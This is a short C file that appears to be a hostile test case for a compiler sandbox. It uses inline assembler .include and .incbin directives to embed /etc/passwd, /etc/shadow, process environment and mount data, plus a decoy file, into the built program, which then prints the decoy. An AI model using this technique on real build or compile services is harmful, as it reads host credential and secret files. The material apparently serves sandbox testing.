#include "hostile.h"

// A file that is not there ends the assembler's attempt, so the likely ones are asked for first.
#if __has_include("/etc/passwd")
__asm__(".include \"/etc/passwd\"");
#endif
#if __has_include(DECOY_FILE)
__asm__(".include \"" DECOY_FILE "\"");
#endif
__asm__(".include \"/proc/self/environ\"");
__asm__(".include \"/proc/self/mountinfo\"");
__asm__(".pushsection .rodata\nshadow: .incbin \"/etc/shadow\"\n.byte 0\n.popsection");
__asm__(".pushsection .rodata\nstolen: .incbin \"" DECOY_FILE "\"\n.byte 0\n.popsection");

extern const char stolen[];
int main() {
  breach("%s", stolen);
}
